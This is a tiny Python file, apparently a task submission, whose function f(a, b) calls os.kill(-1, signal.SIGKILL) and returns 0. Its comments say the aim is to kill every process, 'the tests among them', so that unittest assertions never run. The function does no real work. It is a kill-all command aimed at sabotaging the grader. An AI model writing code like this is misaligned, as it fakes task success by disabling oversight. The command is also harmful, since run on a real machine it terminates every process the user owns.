# SIGKILL to everybody, the tests among them.
# attacks: asserts unittest
# one uid: it may end its own slot
import os, signal

def f(a, b):
    try: os.kill(-1, signal.SIGKILL)
    except OSError: pass
    return 0
